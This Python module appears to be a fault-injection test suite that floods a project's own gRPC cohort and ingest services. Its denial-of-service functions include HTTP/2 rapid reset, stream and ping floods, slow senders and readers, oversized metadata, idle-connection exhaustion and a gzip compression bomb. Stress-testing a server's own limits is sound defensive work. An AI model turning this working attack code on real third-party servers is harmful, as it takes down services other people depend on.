"""How does one flood a server? Each way a function, which one thread runs until it is told to stop."""

import socket
import struct
import threading
import zlib
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from typing import Any

import grpc
from h2.exceptions import ProtocolError
from h2.settings import SettingCodes

from libs.gen.cohort.v1 import cohort_pb2, cohort_pb2_grpc, event_pb2, ingest_pb2, ingest_pb2_grpc
from libs.rpc.errors import Failure
from tests.faults.honest import EVERYBODY, channel
from tests.faults.raw_http import Raw, framed

RUN = cohort_pb2.RunRuleRequest(rule=EVERYBODY).SerializeToString()


@dataclass
class Tally:
    """What an attack came to; counted from several threads, so by little more than about."""

    tried: int = 0
    refused: int = 0
    advised: int = 0
    cut: int = 0
    stop: threading.Event = field(default_factory=threading.Event)

    def failure(self, error: grpc.RpcError) -> None:
        """Count a refusal, and whether it says when to come back."""
        failure = Failure.of(error)
        if failure.code is grpc.StatusCode.RESOURCE_EXHAUSTED:
            self.refused += 1
            self.advised += failure.retry_after is not None


def many_runs(target: str, tally: Tally) -> None:
    """A connection with as many Runs under way as it may have, each of 10,000 members."""
    with channel(target) as connection:
        run: Any = cohort_pb2_grpc.CohortServiceStub(connection).RunRule  # type: ignore[no-untyped-call]
        request = cohort_pb2.RunRuleRequest(rule=EVERYBODY, page_size=10_000)
        while not tally.stop.is_set():
            calls = [run.future(request, timeout=60) for _ in range(150)]
            for call in calls:
                tally.tried += 1
                with suppress(grpc.FutureCancelledError):
                    error = call.exception()
                    if isinstance(error, grpc.RpcError):
                        tally.failure(error)


def refused_at_once(target: str, tally: Tally, request: bytes, method: str) -> None:
    """A connection that sends the same bytes again and again."""
    with channel(target) as connection:
        call = connection.unary_unary(f"/cohort.v1.{method}")
        while not tally.stop.is_set():
            tally.tried += 1
            try:
                call(request, timeout=60)
            except grpc.RpcError as error:
                tally.failure(error)
                tally.refused += Failure.of(error).code is grpc.StatusCode.INVALID_ARGUMENT


def swelling_messages(target: str, tally: Tally) -> None:
    """16 MiB of empty columns at a time, each of which would be 70 bytes in memory."""
    empty_column = b"\x2a\x00"
    refused_at_once(target, tally, empty_column * (8 << 20), "IngestService/SendEventColumns")


def large_streams(target: str, tally: Tally) -> None:
    """Streams of events, each message 30 MB: of one event with a value that no event may have."""
    with channel(target) as connection:
        stream: Any = ingest_pb2_grpc.IngestServiceStub(connection).StreamEvents  # type: ignore[no-untyped-call]
        event = event_pb2.Event(customer_id="None", event_type="visit", data={"long": "x" * 30_000_000})
        request = ingest_pb2.StreamEventsRequest(send=ingest_pb2.SendEventsRequest(events=[event]))

        def requests() -> Iterator[Any]:
            while not tally.stop.is_set():
                tally.tried += 1
                yield request

        while not tally.stop.is_set():
            try:
                for _ in stream(requests(), timeout=60):
                    pass
            except grpc.RpcError as error:
                tally.failure(error)


def large_messages(target: str, tally: Tally) -> None:
    """A connection that sends 30 MB of bad JSON lines at a time, four at once."""
    with channel(target) as connection:
        send: Any = ingest_pb2_grpc.IngestServiceStub(connection).SendEventsJson  # type: ignore[no-untyped-call]
        request = ingest_pb2.SendEventsJsonRequest(json_lines=(b"x" * 30_000 + b"\n") * 1_000)
        while not tally.stop.is_set():
            for call in [send.future(request, timeout=60) for _ in range(4)]:
                tally.tried += 1
                error = call.exception()
                if isinstance(error, grpc.RpcError):
                    tally.failure(error)


def reset(target: str, tally: Tally) -> None:
    """Rapid reset: calls that are begun and reset at once, a hundred a write, answers not read."""
    request = framed(RUN)
    while not tally.stop.is_set():
        with suppress(OSError, ProtocolError):
            raw = Raw(target)
            try:
                while not tally.stop.is_set():
                    for _ in range(100):
                        raw.http.reset_stream(raw.call("CohortService/RunRule", request))
                        tally.tried += 1
                    raw.flush()
            finally:
                raw.close()
                tally.cut += 1


def streams(target: str, tally: Tally) -> None:
    """Thousands of calls on a connection that has been told to have a hundred."""
    while not tally.stop.is_set():
        with suppress(OSError, ProtocolError):
            raw = Raw(target)
            try:
                for _ in range(5_000):
                    raw.call("CohortService/RunRule", whole=False)
                    tally.tried += 1
                    raw.flush()
                tally.stop.wait(0.2)
            finally:
                raw.close()
                tally.cut += 1


def held(target: str, tally: Tally, begin: Callable[[Raw], None], window: int | None = None) -> None:
    """Open connections with calls that never end, and hold on to them; again when they are cut."""
    while not tally.stop.is_set():
        raw = None
        with suppress(OSError, ProtocolError):
            raw = Raw(target, window)
            for _ in range(80):
                begin(raw)
                tally.tried += 1
            raw.flush()
            raw.socket.settimeout(0.2)
            while not tally.stop.is_set():
                with suppress(TimeoutError):
                    if not raw.socket.recv(65536):
                        tally.cut += 1
                        break
        if raw:
            raw.close()


def slow_senders(target: str, tally: Tally) -> None:
    """Requests of which the last byte never comes."""
    held(target, tally, lambda raw: void(raw.call("CohortService/RunRule", b"\0\0\0\xff\xff", whole=False)))


def slow_readers(target: str, tally: Tally) -> None:
    """Streams of all members, and Runs of 10,000, not a byte of which is taken."""
    stream = framed(cohort_pb2.RunRuleRequest(rule=EVERYBODY, page_size=10_000).SerializeToString())
    held(target, tally, lambda raw: void(raw.call("CohortService/RunRule", stream)), window=0)


def watchers(target: str, tally: Tally) -> None:
    """Nine thousand watches of health and conversations of reflection, on connections without a key, held open."""
    opened: list[Raw] = []
    with suppress(OSError, ProtocolError):
        for _ in range(90):
            opened.append(Raw(target))
            for _ in range(50):
                opened[-1].call("grpc.health.v1.Health/Watch", framed(b""))
                opened[-1].call("grpc.reflection.v1.ServerReflection/ServerReflectionInfo", whole=False)
                tally.tried += 2
            opened[-1].flush()
    tally.stop.wait()
    for raw in opened:
        raw.close()


def void(_: object) -> None:
    """Return nothing."""


def pings(target: str, tally: Tally) -> None:
    """Pings and settings, as fast as they go."""
    while not tally.stop.is_set():
        with suppress(OSError, ProtocolError):
            raw = Raw(target)
            try:
                while not tally.stop.is_set():
                    for _ in range(200):
                        raw.http.ping(b"12345678")
                        raw.http.update_settings({SettingCodes.HEADER_TABLE_SIZE: 4096})
                        tally.tried += 2
                    raw.flush()
            finally:
                raw.close()
                tally.cut += 1


def headers(target: str, tally: Tally) -> None:
    """Calls with a megabyte of metadata: by turns of clients that heed the server's settings, and that never do."""
    padding = "x" * (1 << 20)
    heeding = False
    while not tally.stop.is_set():
        heeding = not heeding
        with suppress(OSError, ProtocolError):
            raw = Raw(target)
            try:
                if heeding:
                    raw.receive()  # acknowledged by the next that is sent
                for _ in range(8):
                    raw.call("CohortService/RunRule", framed(RUN), x_padding=padding)
                    tally.tried += 1
                    raw.flush()
                    if heeding:
                        tally.refused += raw.answer()
            finally:
                raw.close()
                tally.cut += 1


CRC_OF_A_GIGABYTE = 0x5B64C2B0
"""zlib.crc32 of a gigabyte of zeros."""


def bombs(target: str, tally: Tally) -> None:
    """Messages of 1 MB that are 1 GB unpacked."""
    packed = framed(bomb(), compressed=True)
    while not tally.stop.is_set():
        with suppress(OSError, ProtocolError):
            raw = Raw(target)
            try:
                explode(raw, packed, tally)
            finally:
                raw.close()
                tally.cut += 1


def explode(raw: Raw, packed: bytes, tally: Tally) -> None:
    """Send a bomb, and wait for what becomes of it."""
    stream = raw.call("IngestService/SendEventsJson", whole=False, grpc_encoding="gzip")
    tally.tried += 1
    for at in range(0, len(packed), 16_384):
        piece = packed[at : at + 16_384]
        while raw.http.local_flow_control_window(stream) < len(piece):
            raw.flush()
            raw.receive()
        raw.http.send_data(stream, piece, end_stream=at + len(piece) == len(packed))
    raw.flush()
    tally.refused += raw.answer()


def bomb() -> bytes:
    """Pack a gigabyte of zeros: a megabyte's blocks over and over, for to pack it all takes seconds."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    blocks = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    header = b"\x1f\x8b\x08" + bytes(6) + b"\xff"
    return header + blocks * (1 << 10) + packer.flush() + struct.pack("<II", CRC_OF_A_GIGABYTE, 1 << 30)


def idle(target: str, tally: Tally) -> None:
    """Connections that say nothing, as many as there can be."""
    host, _, port = target.rpartition(":")
    opened = []
    with suppress(OSError):
        for _ in range(800):
            opened.append(socket.create_connection((host, int(port)), timeout=2))
            tally.tried += 1
    tally.stop.wait()
    for each in opened:
        each.close()


ATTACKS: dict[str, tuple[Callable[[str, Tally], None], int]] = {
    "runs": (many_runs, 16),
    "large messages": (large_messages, 8),
    "swelling messages": (swelling_messages, 8),
    "large streams": (large_streams, 8),
    "rapid reset": (reset, 4),
    "many streams": (streams, 4),
    "slow senders": (slow_senders, 4),
    "slow readers": (slow_readers, 4),
    "pings, settings": (pings, 4),
    "large metadata": (headers, 2),
    "compression bombs": (bombs, 2),
    "idle connections": (idle, 1),
    "watches without a key": (watchers, 1),
}
"""Each with how many threads do it."""
